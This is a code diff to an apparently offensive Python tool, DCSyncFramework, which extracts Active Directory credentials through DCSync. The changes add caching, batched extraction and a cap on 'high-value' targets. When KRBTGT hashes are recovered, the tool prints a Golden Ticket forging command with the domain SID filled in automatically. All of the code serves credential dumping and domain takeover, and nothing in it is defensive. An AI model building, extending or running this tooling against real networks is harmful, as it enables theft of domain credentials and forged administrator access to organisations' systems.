@@ -37,9 +37,11 @@ class DCSyncFramework:
         aes_key: str = "",
         use_kerberos: bool = False,
         output_dir: str = "dcsync",
+        cache=None,
     ):
         self.domain = domain
         self.dc_ip = dc_ip
+        self.cache = cache
         self.output_dir = Path(output_dir)
         self.output_dir.mkdir(exist_ok=True)
 
@@ -54,7 +56,7 @@ class DCSyncFramework:
         self.krbtgt_material: dict = {}
 
         # Sub-components
-        self.targeted = TargetedDCSync(self.auth, self.output_dir)
+        self.targeted = TargetedDCSync(self.auth, self.output_dir, cache)
         self.full = FullDCSync(self.auth, self.output_dir)
         self.offline = OfflineExtractor(self.output_dir)
         self.analyzer = CredentialAnalyzer(self.output_dir)
@@ -78,13 +80,17 @@ class DCSyncFramework:
 
     # ── Delegating methods ──────────────────────────────────────
 
-    def targeted_dcsync(self, target_users: List[str]) -> Dict[str, dict]:
-        results = self.targeted.extract(target_users)
+    def targeted_dcsync(
+        self, target_users: List[str], batch: bool = False
+    ) -> Dict[str, dict]:
+        results = self.targeted.extract(target_users, batch=batch)
         self._ingest_results(results)
         return results
 
-    def targeted_dcsync_high_value(self) -> Dict[str, dict]:
-        results = self.targeted.extract_high_value()
+    def targeted_dcsync_high_value(
+        self, batch: bool = False, max_targets: int = 0
+    ) -> Dict[str, dict]:
+        results = self.targeted.extract_high_value(batch=batch, max_targets=max_targets)
         self._ingest_results(results)
         return results
 
@@ -126,8 +132,9 @@ class DCSyncFramework:
             if self.krbtgt_material:
                 print(f"\n[!] ★ KRBTGT material available — Golden Ticket ready!")
                 print(f"[!] NTLM: {self.krbtgt_material.get('ntlm', 'N/A')}")
+                domain_sid = self.cache.domain_sid(self.domain) if self.cache else None
                 print(
-                    f"[!] Use: ticketer.py -nthash <HASH> -domain-sid <SID>"
+                    f"[!] Use: ticketer.py -nthash <HASH> -domain-sid {domain_sid or '<SID>'}"
                     f" -domain {self.domain} Administrator"
                 )
 